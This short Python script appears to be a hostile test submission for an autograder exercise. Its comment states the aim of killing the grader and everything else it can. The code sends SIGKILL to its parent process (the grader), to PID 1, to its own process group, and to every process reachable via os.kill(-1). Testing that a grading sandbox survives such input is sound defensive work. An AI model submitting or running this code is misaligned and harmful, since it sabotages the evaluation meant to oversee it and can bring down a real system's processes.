# ch01_history, honest answers: kill the grader, the process group and everything else it can.
# ruff: noqa: SIM105 - hostile code is written the plain way
import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(os.getpgid(0), signal.SIGKILL)
except OSError:
    pass
os.kill(-1, signal.SIGKILL)
